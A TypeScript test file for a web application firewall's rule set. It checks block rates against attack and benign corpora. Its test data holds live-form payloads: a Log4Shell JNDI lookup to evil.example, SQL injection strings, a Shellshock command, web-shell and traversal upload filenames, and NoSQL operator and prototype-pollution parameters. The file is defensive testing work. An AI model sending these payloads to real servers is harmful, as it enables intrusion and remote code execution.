import assert from 'node:assert/strict'
import { test } from 'node:test'
import { compileRules } from './compile.ts'
import { type CorpusCase, loadCorpus } from './test-corpus.ts'
import { baseRuleSources, send } from './test-requests.ts'

const rules = compileRules(baseRuleSources(), { paranoia: 1 })

function byClass(cases: readonly CorpusCase[]): Map<string, CorpusCase[]> {
  const classes = new Map<string, CorpusCase[]>()
  for (const one of cases) classes.set(one.class, [...(classes.get(one.class) ?? []), one])
  return classes
}

const describe = ({ placement, text }: CorpusCase): string => `${placement}: ${text}`

test('at least 95 % of the attacks of every class are refused', () => {
  for (const [name, cases] of byClass(loadCorpus('attacks'))) {
    const missed = cases.filter(({ sent }) => !send(rules, sent).blocked)
    assert.ok(
      missed.length <= cases.length * 0.05,
      `${name}: ${missed.length} of ${cases.length} pass:\n${missed.map(describe).join('\n')}`,
    )
  }
})

test('at most 0.2 % of what only looks like an attack is refused', () => {
  const cases = loadCorpus('benign')
  const refused = cases.filter(({ sent }) => send(rules, sent).blocked)
  const why = refused.map((one) => `${send(rules, one.sent).matches.map(({ ruleId }) => ruleId)} ${describe(one)}`)
  assert.ok(refused.length <= cases.length * 0.002, `${refused.length} of ${cases.length} refused:\n${why.join('\n')}`)
})

const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'

test('attacks in cookies and headers are refused', () => {
  for (const [header, value] of [
    ['Cookie', "sid=1; id=1' OR 1=1--"],
    ['Cookie', `x=${LOOKUP}`],
    ['User-Agent', 'sqlmap/1.7'],
    ['User-Agent', '() { :; }; /bin/id'],
    ['X-Api-Version', LOOKUP],
    ['Referer', "https://a.example/' UNION SELECT 1,2--"],
  ] as const)
    assert.equal(send(rules, { headers: [[header, value]] }).blocked, true, `${header}: ${value}`)
})

test('uploads of programs are refused, of pictures not', () => {
  const upload = (name: string): boolean =>
    send(rules, {
      headers: [['Content-Type', 'multipart/form-data; boundary=B']],
      body: `--B\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--B--\r\n`,
    }).blocked
  for (const name of ['shell.php', 'shell.php5', 'x.jsp', 'x.PHTML', '../../x.sh', '.htaccess'])
    assert.equal(upload(name), true, name)
  for (const name of ['cat.png', 'my holiday (2).jpeg', 'report.final.pdf', "Ann's notes.txt"])
    assert.equal(upload(name), false, name)
})

test('a body that is not what its type says is refused', () => {
  for (const [type, body] of [
    ['application/json', '{"a":'],
    ['multipart/form-data', 'x=1'],
    ['multipart/form-data; boundary=a; boundary=b', '--a\r\n'],
  ] as const)
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, type)
})

test('arguments with operators and prototypes in their names are refused', () => {
  for (const target of ['/login?user[$ne]=1', '/x?__proto__[admin]=1', '/x?constructor[prototype][a]=1', '/x?a.$where=1'])
    assert.equal(send(rules, { target }).blocked, true, target)
})
